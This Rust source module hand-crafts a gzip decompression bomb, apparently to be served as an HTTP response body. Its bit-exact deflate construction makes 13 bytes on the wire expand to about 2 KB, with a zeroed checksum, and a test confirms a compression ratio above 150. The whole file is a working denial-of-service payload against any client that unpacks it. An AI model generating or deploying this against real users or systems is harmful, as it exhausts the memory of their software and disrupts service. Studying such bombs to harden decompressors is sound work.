//! A gzip body that is small on the wire and huge when unpacked, made by hand.
//!
//! Deflate with fixed Huffman codes: one literal space, then matches of length 258 at distance 1. A match takes 13 bits
//! (8 for length code 285, 5 for distance code 0), so 8 matches fill 13 bytes exactly and the pattern repeats: 13 bytes
//! of wire for 2064 bytes of memory. The trailer's checksum is zero and therefore wrong; a client that gets so far has
//! already lost.

/// Unpacked bytes of one repetition.
const BLOCK: u64 = 8 * 258;

/// Bits of a match, in the order in which they leave: Huffman codes begin with their highest bit.
const MATCH: [u8; 13] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0];

/// The gzip header, then the first byte of the deflate stream: final block, fixed codes (bits 1, 1, 0), and the first
/// five bits of the code of a space (0x50 in eight bits).
pub(crate) fn head() -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    bytes.extend(pack(&[1, 1, 0, 0, 1, 0, 1, 0]));
    bytes
}

/// How many repetitions unpack to about `size` bytes.
pub(crate) fn blocks(size: u64) -> u64 {
    size.div_ceil(BLOCK)
}

/// That many repetitions. Each begins three bits into a byte, after the end of the literal or of the one before.
pub(crate) fn body(count: u64) -> Vec<u8> {
    // The three bits that are left of what came before are always zeros: the end of the space's code, and the end of a
    // match's distance code.
    let mut bits = vec![0, 0, 0];
    for _ in 0..8 {
        bits.extend(MATCH);
    }
    bits.truncate(13 * 8);
    let block = pack(&bits);
    let count = usize::try_from(count).unwrap_or(0);
    block.repeat(count)
}

/// The last three bits, the end-of-block code (seven zeros), and the trailer.
pub(crate) fn tail(size: u64) -> Vec<u8> {
    let mut bytes = vec![0, 0];
    bytes.extend([0; 4]);
    let length = (blocks(size) * BLOCK + 1) & 0xffff_ffff;
    bytes.extend(u32::try_from(length).unwrap_or(0).to_le_bytes());
    bytes
}

/// Packs bits into bytes, lowest bit first.
fn pack(bits: &[u8]) -> Vec<u8> {
    bits.chunks(8).map(|byte| byte.iter().rev().fold(0, |packed, bit| (packed << 1) | bit)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn thirteen_bytes_stand_for_two_thousand() {
        assert_eq!(body(1).len(), 13);
        assert_eq!(blocks(BLOCK), 1);
        let wire = head().len() + body(blocks(1 << 30)).len() + tail(1 << 30).len();
        assert!((1 << 30) / wire > 150);
    }
}
